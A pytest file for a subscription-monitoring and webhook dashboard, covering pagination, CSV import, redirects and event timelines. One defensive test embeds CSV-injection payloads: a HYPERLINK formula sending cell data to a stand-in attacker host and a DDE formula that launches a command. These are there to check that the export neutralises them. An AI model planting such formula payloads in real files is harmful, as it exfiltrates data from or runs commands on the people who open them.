@pytest.mark.parametrize("path", ["/subscriptions", "/events", "/deliveries"])
def test_a_page_number_that_is_no_page_shows_a_page(browser, alice, path, page):
    """Digits str.isdigit takes and int() does not were a 500, and so was an offset past PostgreSQL's bigint."""
    subscribe(alice.account_id)
    assert browser.get(f"{path}?page={page}").status_code == 200


@pytest.mark.parametrize("path, things", [("/subscriptions", "subscriptions"), ("/events", "events"),
                                          ("/deliveries", "delivery attempts")])
def test_a_page_past_the_last_says_so_and_links_to_the_last(browser, alice, path, things):
    """It said "No subscriptions yet" beside the count of the account's subscriptions (walk)."""
    with Receiver() as receiver:
        configure(alice, receiver.url)
        record_events(alice.account_id)  # a subscription, an event
        deliver_due()  # an attempt
    page = browser.text(f"{path}?page=999")
    assert f"No {things} on this page: there is 1 page." in page and f"No {things} yet" not in page
    assert f'href="{path}?page=1' in page


@pytest.mark.parametrize("page", ["50000000", "99999999999", "0" * 12 + "99999999999", "9" * 5000])
@pytest.mark.parametrize("path", ["/subscriptions", "/events", "/deliveries", "timeline"])
def test_a_page_past_what_a_database_can_skip_to_is_past_the_end_as_any_other(browser, alice, path, page):
    """Past the database's limit the page said "No subscriptions on page 42,949,673", a number no one asked for, and
    an 11-digit page showed page 1, its rows and all, as if it were the first (browser walk)."""
    with Receiver() as receiver:
        configure(alice, receiver.url)
        [event] = record_events(alice.account_id)  # a subscription, an event
        deliver_due()  # an attempt
    subscription = db.session.scalar(select(Subscription).where(Subscription.account_id == alice.account_id))
    path = f"/subscriptions/{subscription.id}" if path == "timeline" else path
    shown = browser.text(f"{path}?page={page}")
    assert event not in shown and subscription.network_id not in shown.split("<h2 id=\"timeline\"")[-1]
    assert "42,949,673" not in shown and 'class="pager"' not in shown
    assert " on this page: there is 1 page." in shown and f'href="{path}?page=1' in shown


def test_import_a_pasted_list_reports_each_refused_row(browser, alice):
    subscribe(alice.account_id, "already")
    pasted = "\n".join(["https://www.linkedin.com/in/one", "linkedin.com/company/acme",
                        "https://www.linkedin.com/in/already", "https://example.com/not-a-profile"])
    page = browser.post("/subscriptions/import", data={"rows": pasted}).get_data(as_text=True)
    assert "4 rows read" in page and "2 subscribed" in page and "1 already present" in page
    assert "example.com/not-a-profile" in page
    assert subscription_count(alice.account_id) == 3


def test_an_imported_row_the_api_refuses_says_why_in_the_forms_words(browser, alice):
    """As *add one* says it (Invalid profile URL), not by the API's names (network_url, network_id); the importer's
    own reasons name the file's columns as written."""
    pasted = "https://example.com/in/x\nhttps://www.linkedin.com/in/a b\nnot-a-url\n"
    page = html.unescape(browser.post("/subscriptions/import", data={"rows": pasted}).get_data(as_text=True))
    page = page.split('href="data:')[0]  # the rows (the results CSV keeps the API's words, as the command line's)
    assert "Invalid profile URL: the host must be" in page
    assert "Invalid profile URL: profile id may hold only letters" in page
    assert "network_url" not in page and "network_id" not in page
    assert "A bare id needs an entity_type column" in page  # the column to add, by its name


def test_an_imported_row_refused_by_a_named_field_is_headed_by_its_label_as_add_one_says_it(browser, alice):
    """A refusal headed by the API's field (`network_id may hold only…`, `entity_type: Must be one of…`) is headed by
    the form's label, as *add one* says it: only its sentence was put in the forms' words, so the row read "profile id
    may hold only…" and "type: Must be one of…" under the import's results."""
    browser.post("/subscriptions", data={"url": "a b", "entity_type": "company"})
    add_one = browser.text("/subscriptions")
    assert "Profile id may hold only letters" in add_one
    pasted = "network_id,entity_type\nabc,person\na b,company\n"
    page = html.unescape(browser.post("/subscriptions/import", data={"rows": pasted}).get_data(as_text=True))
    page = page.split('href="data:')[0]
    assert "Type: Must be one of: contact, company." in page and "type: Must" not in page
    assert "Profile id may hold only letters" in page and "profile id may" not in page
    assert subscription_count(alice.account_id) == 0


def test_a_pasted_list_whose_first_url_is_not_a_profile_is_still_a_list(browser, alice):
    """Its first line is a row the import rejects, not a header that refuses the whole paste."""
    pasted = "https://linkedn.com/in/typo\nhttps://www.linkedin.com/in/one\n"
    page = browser.post("/subscriptions/import", data={"rows": pasted}).get_data(as_text=True)
    assert "2 rows read" in page and "1 subscribed" in page and "linkedn.com/in/typo" in page


def test_import_an_uploaded_csv(browser, alice):
    upload = (io.BytesIO(b"Name;LinkedIn URL\nJane;https://www.linkedin.com/in/jane\nAl;linkedin.com/in/al\n"),
              "crm.csv")
    page = browser.post("/subscriptions/import", data={"file": upload},
                        content_type="multipart/form-data").get_data(as_text=True)
    assert "2 subscribed" in page and subscription_count(alice.account_id) == 2


@pytest.mark.parametrize("content, refusal", [
    ("url,owner\nhttps://www.linkedin.com/in/jane,Zoë\n".encode("latin-1"),
     "not UTF-8 text (byte 46 is not, on line 2)"),
    (codecs.BOM_UTF8 + "url,owner\nhttps://www.linkedin.com/in/jane,Zoë\n".encode("latin-1"),
     "not UTF-8 text (byte 49 is not, on line 2)"),
    ("url,owner\rhttps://www.linkedin.com/in/jane,Zoë\r".encode("latin-1"),  # (Excel's CSV (Macintosh))
     "not UTF-8 text (byte 46 is not, on line 2)"),
    (b'"' + b"x" * 200_000 + b'"\nhttps://www.linkedin.com/in/jane\n', "cannot be read as CSV at its header"),
    (b'url,note\nhttps://www.linkedin.com/in/jane,"' + b"x" * 200_000 + b'"\n',
     "cannot be read as CSV at row 1: field larger than field limit (131072)."),
])
def test_an_unreadable_upload_is_refused_with_the_reason_and_imports_nothing(browser, alice, content, refusal):
    """A Latin-1 file was read with U+FFFD in place of its accented letters; a field beyond the csv module's
    limit was a 500."""
    response = browser.post("/subscriptions/import", data={"file": (io.BytesIO(content), "crm.csv")},
                            content_type="multipart/form-data")
    assert response.status_code == 302
    assert refusal in browser.text(response.headers["Location"])
    assert subscription_count(alice.account_id) == 0


def test_a_file_without_a_column_of_profiles_says_what_to_name_it_not_a_command_line_option(browser, alice):
    """The dashboard told to "name it with --column", an option of the command line's that no form here has
    (dashboard walk)."""
    upload = (io.BytesIO(b"name,email\nJane,jane@example.com\n"), "crm.csv")
    response = browser.post("/subscriptions/import", data={"file": upload}, content_type="multipart/form-data")
    page = browser.text(response.headers["Location"])
    assert "No column of profile URLs or ids found" in page and "rename the header of that column to url" in page
    assert "--column" not in page
    assert subscription_count(alice.account_id) == 0


def test_a_cell_holding_a_unicode_line_separator_does_not_split_its_row(browser, alice):
    """The rows were split at every line boundary str.splitlines knows (U+2028, a form feed…), not at line ends alone:
    a name with U+2028 in it (pasted from a profile) became two rows, one of them refused (walk). The command line read
    the same file as two rows."""
    upload = (io.BytesIO("Name,LinkedIn URL\r\nJane\u2028CTO,https://www.linkedin.com/in/sep-jane\r\n"
                         "Al\x0cBo,https://www.linkedin.com/in/sep-al\r\n".encode()), "crm.csv")
    page = browser.post("/subscriptions/import", data={"file": upload},
                        content_type="multipart/form-data").get_data(as_text=True)
    assert "2 rows read" in page and "2 subscribed" in page and "0 refused" in page
    assert subscription_count(alice.account_id) == 2


def test_a_quoted_cell_keeps_its_blank_lines_as_the_command_line_reads_them(browser, alice):
    """The text was cut into lines and its blank ones dropped before it was read as CSV, those inside a quoted cell
    too (a CRM note of two paragraphs): the row and its result came back without them."""
    upload = (io.BytesIO(b'url,note\r\nhttps://www.linkedin.com/in/two-paragraphs,"Met at the expo.\r\n\r\n'
                         b'   \r\nCall in May."\r\n'), "crm.csv")
    page = browser.post("/subscriptions/import", data={"file": upload},
                        content_type="multipart/form-data").get_data(as_text=True)
    assert "1 row read" in page and "1 subscribed" in page
    results = unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]+)" download', page).group(1))
    header, line = csv.reader(io.StringIO(results))
    assert line[:4] == ["https://www.linkedin.com/in/two-paragraphs", "Met at the expo.\n\n   \nCall in May.", "1",
                        "created"]


def test_the_import_results_csv_comes_back_in_the_files_own_delimiter_and_bom(browser, alice):
    """Excel's CSV UTF-8 of a `;` locale came back comma-separated and without its BOM: Excel opened each row in one
    column and read José as JosÃ© (walk). A pasted list comes back as it was read, without a BOM."""
    upload = (io.BytesIO(codecs.BOM_UTF8 + "Name;LinkedIn URL\r\nJosé;https://www.linkedin.com/in/bom-jose\r\n"
                                           "Ana;https://example.com/in/ana\r\n".encode()), "crm.csv")
    page = browser.post("/subscriptions/import", data={"file": upload},
                        content_type="multipart/form-data").get_data(as_text=True)
    assert "2 rows read" in page and "1 subscribed" in page and "1 refused" in page
    results = unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]+)" download', page).group(1))
    assert results.startswith("\ufeffName;LinkedIn URL;row;result;subscription_id;code;reason\r\n"
                              "José;https://www.linkedin.com/in/bom-jose;1;created;sub_")
    page = browser.post("/subscriptions/import", data={"rows": "https://www.linkedin.com/in/pasted-one\n"}
                        ).get_data(as_text=True)
    results = unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]+)" download', page).group(1))
    assert results.startswith("url,row,result,subscription_id,code,reason\r\n")


@pytest.mark.parametrize("content", [b"", codecs.BOM_UTF8, b"\r\n \r\n"])
def test_an_empty_file_is_refused_as_empty(browser, alice, content):
    """It was told to paste a list or choose a file, a file having been chosen (walk)."""
    response = browser.post("/subscriptions/import", data={"file": (io.BytesIO(content), "crm.csv")},
                            content_type="multipart/form-data")
    page = browser.text(response.headers["Location"])
    assert "The file is empty: it has no header line and no rows." in page and "or choose a file" not in page


def test_rows_with_no_filled_cell_are_read_past_as_the_command_line_reads_them(browser, alice):
    """A row of delimiters alone (a spreadsheet's formatted empty rows) was refused, "The url cell is empty"."""
    upload = (io.BytesIO(b"url,owner\r\nhttps://www.linkedin.com/in/blank-a,Sam\r\n,\r\n , \r\n"
                         b"https://www.linkedin.com/in/blank-b,\r\n"), "crm.csv")
    page = browser.post("/subscriptions/import", data={"file": upload},
                        content_type="multipart/form-data").get_data(as_text=True)
    assert "2 rows read" in page and "2 subscribed" in page and "0 refused" in page


def test_rows_read_past_as_blank_keep_the_numbers_of_the_rows_after_them(browser, alice):
    """The rows are numbered as the file's (1 the first under the header): the blank rows read past, empty, of spaces
    or of delimiters alone, still count, so that a refused row is found in the spreadsheet at its number. They were
    numbered as if the blank rows were not there."""
    upload = (io.BytesIO(b"url,owner\r\nhttps://www.linkedin.com/in/numbered-a,Sam\r\n,\r\n\r\n  \r\n"
                         b"https://example.com/numbered-b,Kim\r\n"), "crm.csv")
    page = browser.post("/subscriptions/import", data={"file": upload},
                        content_type="multipart/form-data").get_data(as_text=True)
    assert "2 rows read" in page and "1 subscribed" in page and "1 refused" in page
    results = unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]+)" download', page).group(1))
    _header, *lines = csv.reader(io.StringIO(results))
    assert [line[:4] for line in lines] == [["https://www.linkedin.com/in/numbered-a", "Sam", "1", "created"],
                                            ["https://example.com/numbered-b", "Kim", "5", "refused"]]


def test_an_upload_over_the_size_limit_names_the_limit_and_the_command_that_takes_any_size(browser, alice):
    """A CRM export over 1 MiB (about 18,000 rows) was refused with a generic "Something went wrong" (walk)."""
    rows = b"".join(b"https://www.linkedin.com/in/person-%d\n" % number for number in range(40_000))
    response = browser.post("/subscriptions/import", data={"file": (io.BytesIO(b"url\n" + rows), "crm.csv")},
                            content_type="multipart/form-data")
    assert response.status_code == 413
    page = response.get_data(as_text=True)
    assert "Too large" in page and "1 MiB" in page and "entity-monitor subscriptions import" in page
    assert subscription_count(alice.account_id) == 0


def test_a_row_with_filled_cells_past_the_header_is_refused_and_not_shown_as_a_list(browser, alice):
    """Its extra cells were shown as a Python list (`['x1', 'x2']`) and the row imported (walk): mostly an unquoted
    delimiter inside a value, which shifts the cells. Empty ones (a trailing delimiter) are no concern."""
    upload = (io.BytesIO(b"url,owner\nhttps://www.linkedin.com/in/extra1,Acme, Inc\n"
                         b"https://www.linkedin.com/in/extra2,Sam,,\n"), "crm.csv")
    page = browser.post("/subscriptions/import", data={"file": upload},
                        content_type="multipart/form-data").get_data(as_text=True)
    rows = result_rows(page)
    assert rows[1][0] == "refused" and "1 more filled cells than the header" in rows[1][1] and "[" not in rows[1][1]
    assert rows[2][0] == "created"


def test_a_pasted_field_beyond_the_csv_limit_is_refused(browser, alice):
    response = browser.post("/subscriptions/import",
                            data={"rows": 'url,note\nhttps://www.linkedin.com/in/jane,"' + "x" * 200_000 + '"'})
    assert response.status_code == 302 and "cannot be read as CSV" in browser.text(response.headers["Location"])
    assert subscription_count(alice.account_id) == 0


@pytest.mark.parametrize("path, page", [
    ("/subscriptions/import", "/subscriptions"), ("/subscriptions/bulk", "/subscriptions"),
    ("/subscriptions/SUB/pause", "/subscriptions/SUB"), ("/subscriptions/SUB/metadata", "/subscriptions/SUB"),
    ("/events/evt_x/redeliver", "/events/evt_x"), ("/deliveries/recover", "/deliveries"),
    ("/webhook/test", "/webhook"), ("/webhook/rotate", "/webhook"), ("/keys/key_x/revoke", "/keys"), ("/logout", "/"),
])
@pytest.mark.parametrize("method", ["GET", "HEAD"])
def test_a_get_of_a_form_url_goes_to_the_page_holding_the_form(browser, alice, path, page, method):
    """An import's or a new secret's result page opened again: the import page said "No subscription with id
    'import'", the others answered a 405 in JSON."""
    subscription = subscribe(alice.account_id, "jane")
    path, page = (text.replace("SUB", subscription.id) for text in (path, page))
    response = browser.client.open(path, method=method)
    assert response.status_code == 303 and response.headers["Location"] == page
    assert subscription_count(alice.account_id) == 1 and keys.list_keys(alice.account_id)


@pytest.mark.parametrize("path, page", [("/events/a%0Ab/redeliver", "/events/a%0Ab"),
                                        ("/subscriptions/a%0D%0Ab/pause", "/subscriptions/a%0D%0Ab"),
                                        ("/events/a%3Fb/redeliver", "/events/a%3Fb"),
                                        ("/events/a%23b/redeliver", "/events/a%23b"),
                                        ("/events/a%25b/redeliver", "/events/a%25b")])
def test_a_form_url_holding_encoded_characters_goes_to_its_page_encoded_alike(anon, path, page):
    """The decoded path went into Location: a line break there was a 500 (before any sign-in), `?` and `#` cut
    the id short."""
    response = anon.client.get(path)
    assert response.status_code == 303 and response.headers["Location"] == page


def test_api_and_unknown_paths_keep_their_json_answers(browser, alice):
    assert browser.client.get("/api/v1/webhooks/test").json["error"] == "METHOD_NOT_ALLOWED"
    assert browser.client.get("/api/v1/subscriptions/bulk").status_code == 405
    assert browser.client.get("/nowhere/at/all").json["error"] == "NOT_FOUND"
    assert browser.client.put("/webhook/rotate").status_code == 405  # only a page's GET is sent on


def progress_of(page) -> list:
    """(value, max) of every progress bar the streamed import page sent, in order."""
    return [(int(value), int(top)) for value, top in re.findall(r'<progress value="(\d+)" max="(\d+)"', page)]


def result_rows(page) -> dict:
    """{row number: (result class, row text)} of the import page's tables."""
    return {int(number): (result, " ".join(re.sub(r"<[^>]+>", " ", rest).split()))
            for result, number, rest in re.findall(r'<tr class="(\w+)"><td>([\d,]+)</td>(.*?)</tr>', page, re.S)}


def test_an_import_lists_every_rows_outcome_and_offers_them_as_csv(browser, alice):
    existing = subscribe(alice.account_id, "already")
    upload = (io.BytesIO(b"Name,LinkedIn URL\nJane,https://www.linkedin.com/in/jane\nAl,linkedin.com/in/already\n"
                         b"Bad,https://example.com/x\nJane again,https://www.linkedin.com/in/jane\n"), "crm.csv")
    response = browser.post("/subscriptions/import", data={"file": upload}, content_type="multipart/form-data")
    assert response.is_streamed and response.headers["X-Accel-Buffering"] == "no"
    page = response.get_data(as_text=True)
    jane = db.session.scalar(select(Subscription.id).where(Subscription.network_id == "jane"))
    rows = result_rows(page)
    assert rows[1] == ("created", f"Jane, https://www.linkedin.com/in/jane subscribed {jane}")
    assert rows[2] == ("present", f"Al, linkedin.com/in/already already present {existing.id}")
    assert rows[3][0] == "refused" and "VALIDATION_ERROR" in rows[3][1] and "example.com/x" in rows[3][1]
    assert rows[4] == ("present", f"Jane again, https://www.linkedin.com/in/jane already present {jane}")
    assert f'href="/subscriptions/{jane}"' in page
    assert progress_of(page) == [(4, 4)] and "4 of 4 rows (100%)" in page
    assert "Done</strong>: 4 rows read" in page and "1 subscribed" in page and "2 already present" in page
    results = unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]+)" download', page).group(1))
    header, *lines = csv.reader(io.StringIO(results))
    assert header == ["Name", "LinkedIn URL", "row", "result", "subscription_id", "code", "reason"]
    assert [line[:6] for line in lines] == [
        ["Jane", "https://www.linkedin.com/in/jane", "1", "created", jane, ""],
        ["Al", "linkedin.com/in/already", "2", "present", existing.id, ""],
        ["Bad", "https://example.com/x", "3", "refused", "", "VALIDATION_ERROR"],
        ["Jane again", "https://www.linkedin.com/in/jane", "4", "present", jane, ""]]
    assert lines[2][6].startswith("Invalid network_url") and lines[0][6] == ""


def test_the_import_results_csv_opens_cells_like_formulas_as_text(browser, alice):
    """The download is for a spreadsheet, and its cells are the uploaded file's: one that starts as a formula
    would (=, +, -, @, tab, carriage return) gets a quote before it (OWASP's CSV injection advice)."""
    upload = (io.BytesIO(b'sep=,\n=Owner,LinkedIn URL,Note\n=HYPERLINK("http://evil.example/?"&A1),'
                         b'https://www.linkedin.com/in/jane,+1\n@SUM(1),"=cmd|\' /C calc\'!A0",-2\n'
                         b'"\tx",https://www.linkedin.com/in/al,plain - text\n'), "crm.csv")
    page = browser.post("/subscriptions/import", data={"file": upload},
                        content_type="multipart/form-data").get_data(as_text=True)
    results = unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]+)" download', page).group(1))
    sep_line, header, *lines = csv.reader(io.StringIO(results))
    assert sep_line == ["sep="] + [""]  # the file's own `sep=,` line, first as it was
    assert header == ["'=Owner", "LinkedIn URL", "Note", "row", "result", "subscription_id", "code", "reason"]
    assert [line[:5] for line in lines] == [
        ["\'=HYPERLINK(\"http://evil.example/?\"&A1)", "https://www.linkedin.com/in/jane", "'+1", "1", "created"],
        ["'@SUM(1)", "'=cmd|' /C calc'!A0", "'-2", "2", "refused"],
        ["'\tx", "https://www.linkedin.com/in/al", "plain - text", "3", "created"]]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines for cell in line)


@pytest.mark.parametrize("path", ["/nope", "/subscriptions/", "/Subscriptions", "/keys/"])
def test_an_address_that_matches_nothing_is_the_dashboards_page_to_a_browser(browser, anon, path):
    """It was the API's JSON (dashboard walk); a client asking for JSON (or anything: curl) still gets JSON, as does
    every API path."""
    html_first = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}
    page = browser.client.get(path, headers=html_first)
    assert page.status_code == 404 and page.mimetype == "text/html" and "Not found" in page.get_data(as_text=True)
    assert anon.client.get(path, headers={"Accept": "*/*"}).json["error"] == "NOT_FOUND"
    assert anon.client.get("/api/v1" + path, headers=html_first).json["error"] == "NOT_FOUND"
    assert page.headers["X-Frame-Options"] == "DENY" and "Content-Security-Policy" in page.headers  # (review)
    wrong_method = browser.client.put("/healthz", headers=html_first)
    assert wrong_method.status_code == 405 and "GET" in wrong_method.headers["Allow"]


def test_a_refused_pasted_list_comes_back_to_be_corrected(browser, alice):
    """A list refused as a whole (a header naming no URL column) came back empty (dashboard walk)."""
    pasted = "name,owner\nfoo,bar"
    refused = browser.post("/subscriptions/import", data={"rows": pasted})
    assert refused.status_code == 302
    page = browser.text("/subscriptions")
    assert 'class="notice error"' in page and f">{pasted}</textarea>" in page


def test_the_import_results_csv_keeps_the_files_own_columns_of_a_results_name(browser, alice):
    """A file's own `row`, `reason` and `code` columns were overwritten by the outcome's (dashboard walk)."""
    upload = (io.BytesIO(b"url,row,reason,code,import_code\n"
                         b"https://www.linkedin.com/in/collide-one,CRM-17,met at expo,A1,B2\n"), "crm.csv")
    page = browser.post("/subscriptions/import", data={"file": upload},
                        content_type="multipart/form-data").get_data(as_text=True)
    results = unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]+)" download', page).group(1))
    header, line = csv.reader(io.StringIO(results))
    assert header == ["url", "row", "reason", "code", "import_code", "import_row", "result", "subscription_id",
                      "import_import_code", "import_reason"]
    assert line[:7] == ["https://www.linkedin.com/in/collide-one", "CRM-17", "met at expo", "A1", "B2", "1",
                        "created"]


def test_a_long_import_shows_progress_per_chunk_and_lists_refused_rows_past_the_cap(app, monkeypatch):
    monkeypatch.setattr(views, "IMPORT_ROWS_LISTED", 150)
    big = make_tenant(app, "Big Co", "enterprise")
    browser = Browser(app, big.key)
    lines = [f"https://www.linkedin.com/in/person-{number}" for number in range(1, 251)]
    lines[199] = "https://example.com/row-200"
    page = browser.post("/subscriptions/import", data={"rows": "\n".join(lines)}).get_data(as_text=True)
    assert progress_of(page) == [(100, 250), (200, 250), (250, 250)]
    rows = result_rows(page)
    assert sorted(rows) == [*range(1, 151), 200]  # past the cap only the row not created is listed
    assert rows[200][0] == "refused" and "Rows 101–200" in page
    assert "Rows past 150 are listed below only when they were not subscribed." in page
    assert subscription_count(big.account_id) == 249


def test_an_import_whose_rows_are_numbered_past_the_cap_by_blank_rows_says_so(app, monkeypatch):
    """Review of e251afe: rows are numbered as a spreadsheet numbers them, blank rows counted, and only those
    numbered up to the cap are listed when created; the note saying so went by the count of rows read. 145 rows
    under 10 blank ones end at row 155: rows 151-155 were left out of the page with no word why."""
    monkeypatch.setattr(views, "IMPORT_ROWS_LISTED", 150)
    big = make_tenant(app, "Big Co", "enterprise")
    lines = ["url", *[""] * 10, *[f"https://www.linkedin.com/in/person-{number}" for number in range(1, 146)]]
    page = Browser(app, big.key).post("/subscriptions/import", data={"rows": "\n".join(lines)}).get_data(as_text=True)
    assert sorted(result_rows(page)) == [*range(11, 151)]
    assert "Rows past 150 are listed below only when they were not subscribed." in page


def test_an_import_refused_as_a_whole_says_where_it_stopped(browser, alice):
    with write_transaction() as session:
        session.get(Account, alice.account_id).trial_ends_at = utcnow() - timedelta(days=1)
    page = browser.post("/subscriptions/import", data={"rows": "https://www.linkedin.com/in/jane"}).get_data(
        as_text=True)
    assert "Stopped after 0 rows: The account&#39;s free trial has ended" in page
    assert "<strong>Stopped</strong> after 0 of 1 rows" in page and progress_of(page) == [(0, 1)]
    assert subscription_count(alice.account_id) == 0


# --- a subscription's timeline, events, deliveries ------------------------------------------------------

def test_the_timeline_shows_before_and_after(browser, alice):
    subscription = subscribe(alice.account_id)
    record_events(alice.account_id, subscription=subscription)
    page = browser.text(f"/subscriptions/{subscription.id}")
    assert "contact.position_changed" in page
    assert '<td class="before">Engineer</td><td class="after">CTO</td>' in page


def test_every_event_of_a_subscription_is_reached_from_its_page_newest_first(browser, alice, monkeypatch):
    """The timeline stopped at the newest 50 events, the older ones out of reach (walk)."""
    monkeypatch.setattr(views, "PAGE_SIZE", 5)
    subscription = subscribe(alice.account_id)
    recorded = record_events(alice.account_id, count=12, subscription=subscription)
    record_events(alice.account_id, count=3)  # another subscription's, not listed
    path, shown = f"/subscriptions/{subscription.id}", []
    while path:
        page = browser.text(path)
        shown += re.findall(r'<a href="/events/([^"]+)"><strong>', page)
        older = re.search(r'<a href="([^"]+)" rel="next">Older', page)
        path = html.unescape(older.group(1)) if older else None
        assert path is None or path.endswith("#timeline")  # to the timeline, below the state and metadata
    newest_first = [row.id for row in events.list_page(alice.account_id, 20, 0, subscription_id=subscription.id)[0]]
    assert shown == newest_first and sorted(shown) == sorted(recorded)
    assert "Page 3 of 3" in page and "(12 events)" in page
    past = browser.text(f"/subscriptions/{subscription.id}?page=9")
    assert "No events on this page: there are 3 pages." in past and f"{subscription.id}?page=3#timeline" in past
    assert "Page 9 of 3" not in past and 'class="pager"' not in past  # (it said so beside the line above: review)


def test_events_filter_and_show_attempts_and_redeliver(browser, alice):
    with Receiver(Reply(status=500)) as receiver:
        configure(alice, receiver.url)
        [failed] = record_events(alice.account_id)
        record_events(alice.account_id, event_type="contact.headline_changed",
                      data={"changes": {"previous_headline": "a", "current_headline": "b"}})
        result = browser.post("/webhook/test").get_data(as_text=True)
        assert "Not delivered" in result and "500" in result
        assert "1 event." in browser.text("/events?type=contact.headline_changed")
        assert "1 event." in browser.text("/events?type=test&status=failed")
        test_event = db.session.scalar(select(Event).where(Event.type == "test"))
        page = browser.text(f"/events/{test_event.id}")
        assert "failed" in page and "500" in page and f"X-Webhook-Id: {test_event.id}" in page
        deliveries = browser.text("/deliveries?status=failed")
        assert "1 attempt," in deliveries and test_event.id in deliveries
        response = browser.post(f"/events/{failed}/redeliver")
        assert response.status_code == 302
        assert "Queued for delivery" in browser.text(f"/events/{failed}")


def test_the_event_list_names_whom_each_event_is_about(browser, alice, bob):
    """The list showed an event's id, type and delivery only: who changed jobs took opening every row (browser
    walk)."""
    jane = subscribe(alice.account_id, "jane-doe")
    record_events(alice.account_id, subscription=jane)
    record_events(bob.account_id, subscription=subscribe(bob.account_id, "bobs-contact"))
    page = browser.text("/events")
    assert f'<a href="/subscriptions/{jane.id}">jane-doe</a>' in page and "bobs-contact" not in page


def test_the_event_list_and_its_total_come_from_one_snapshot_while_events_are_added(browser, alice, monkeypatch):
    """PostgreSQL read each statement of a page in its own snapshot: an event committed between the total and the
    rows was listed but not counted. A page's reads now share one, as the API's do (and SQLite's always did)."""
    subscription = subscribe(alice.account_id)
    recorded = record_events(alice.account_id, 3, subscription=subscription)
    scalar, added = db.session.scalar, []

    def read_then_add_an_event(*args, **kwargs):
        value = scalar(*args, **kwargs)
        if not added:  # another process records an event once the page's first read has been made
            with Session(db.engine) as other, other.begin():
                added.append(events.record(other, alice.account_id, "contact.position_changed", {"changes": {}},
                                           subscription=other.get(Subscription, subscription.id)).id)
        return value
    monkeypatch.setattr(db.session, "scalar", read_then_add_an_event)
    page = browser.text("/events")
    assert added and "3 events." in page
    assert all(event_id in page for event_id in recorded) and added[0] not in page
    monkeypatch.undo()
    assert "4 events." in browser.text("/events")  # the next page sees it


def test_a_notice_and_what_was_typed_show_on_the_page_they_were_made_for_alone(browser, alice, monkeypatch):
    """The refusal of X's metadata, with its text, showed on whichever page rendered next: another tab's Y, whose
    editor then held X's text for a Save to write into Y (dashboard walk). Nor is one shown long after."""
    first, second = subscribe(alice.account_id), subscribe(alice.account_id, "second-one")
    refused = browser.post(f"/subscriptions/{first.id}/metadata", data={"custom_metadata": '{"note-for-x": 1}'})
    assert refused.status_code == 302 and refused.headers["Location"].endswith(f"/subscriptions/{first.id}")
    other_tab = browser.text(f"/subscriptions/{second.id}")
    assert "note-for-x" not in other_tab and "Not a valid string" not in other_tab
    own_page = browser.text(f"/subscriptions/{first.id}")
    assert "Not a valid string" in own_page and "note-for-x" in own_page
    assert "Not a valid string" not in browser.text(f"/subscriptions/{first.id}")  # shown once
    browser.post(f"/subscriptions/{first.id}/metadata", data={"custom_metadata": '{"late": 1}'})
    monkeypatch.setattr(dashboard_sessions, "NOTICE_KEPT_SECONDS", -1)  # (as if its page were visited much later)
    assert "late" not in browser.text(f"/subscriptions/{first.id}")


def test_a_page_with_a_notice_is_rendered_from_its_own_reads(browser, alice, monkeypatch):
    """The notice was cleared (a write, which ends the read transaction) before the template read the listed rows:
    each was loaded again, one query per row, and one deleted in between (retention) made the page a 500."""
    recorded = record_events(alice.account_id, 3)
    with write_transaction() as session:
        session.execute(update(DashboardSession).values(notice={"kind": "ok", "message": "Queued for delivery."}))
    write_notice = dashboard_sessions._write_notice

    def clear_then_prune_an_event(row, notice):
        write_notice(row, notice)
        with Session(db.engine) as other, other.begin():
            other.execute(delete(Event).where(Event.id == recorded[0]))
    monkeypatch.setattr(dashboard_sessions, "_write_notice", clear_then_prune_an_event)
    response = browser.get("/events")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "Queued for delivery." in page and all(event_id in page for event_id in recorded)
    monkeypatch.undo()
    assert "Queued for delivery." not in browser.text("/events")  # shown once


@pytest.mark.parametrize("path", ["/events?type=bogus", "/events?status=bogus", "/deliveries?status=bogus",
                                  "/events?type=contact.position_changed&status=nope"])
def test_an_unknown_filter_is_refused_not_ignored(browser, alice, path):
    """The whole list was shown under the unknown filter, where the API answers 400 (walk)."""
    record_events(alice.account_id, 2)
    response = browser.get(path)
    assert response.status_code == 302 and response.headers["Location"] == path.split("?")[0]
    page = browser.text(path.split("?")[0])
    assert "Unknown " in page and "choose one of" in page


def test_a_long_unknown_filter_is_told_cut_as_the_api_cuts_it(browser):
    """The notice, kept in the session's row, repeated an 8 kB value whole (review)."""
    browser.get("/events?type=" + "x" * 5000)
    page = browser.text("/events")
    assert "Unknown type " in page and "x" * 200 + "…" in page and "x" * 201 not in page


def test_the_event_page_shows_the_body_once_and_each_tries_headers_as_sent(browser, alice):
    with Receiver(Reply(status=500)) as receiver:
        configure(alice, receiver.url)
        [event_id] = record_events(alice.account_id)
        deliver_due()
        receiver.reply = Reply(status=200)
        browser.post(f"/events/{event_id}/redeliver")
        deliver_due()
    page = browser.text(f"/events/{event_id}")
    assert len(receiver.requests) == 2 and page.count('aria-label="Body as sent"') == 1
    for number, request in enumerate(receiver.requests, start=1):
        assert f'aria-label="Headers of try {number}"' in page
        for name in ("X-Webhook-Attempt", "X-Webhook-Timestamp", "X-Webhook-Signature", "User-Agent"):
            assert f"{name}: {request.headers[name]}" in page
    assert "whsec_" not in page
    # "These exact bytes on every try": the body a receiver signs and checks, not a re-indented copy of it
    shown = html.unescape(page.split('aria-label="Body as sent">', 1)[1].split("</pre>", 1)[0])
    assert [shown.encode()] == list({request.body for request in receiver.requests})


def test_a_try_refused_before_sending_says_no_headers_were_kept(browser, alice, app):
    configure(alice, "http://127.0.0.1:9/hook")
    app.config["WEBHOOK_ALLOW_HTTP"] = False
    app.extensions.pop("webhook_transport", None)
    [event_id] = record_events(alice.account_id)
    deliver_due()
    page = browser.text(f"/events/{event_id}")
    assert "No headers kept: no request was made (refused: http:// endpoints are not allowed)" in page


def test_redeliver_to_an_inactive_endpoint_says_why(browser, alice):
    configure(alice, "http://127.0.0.1:9/hook")
    alice.put("/webhooks/configure", json={"is_active": False})
    [event_id] = record_events(alice.account_id)
    browser.post(f"/events/{event_id}/redeliver")
    page = browser.text(f"/events/{event_id}")  # in the dashboard's words, not the API call to make (walk)
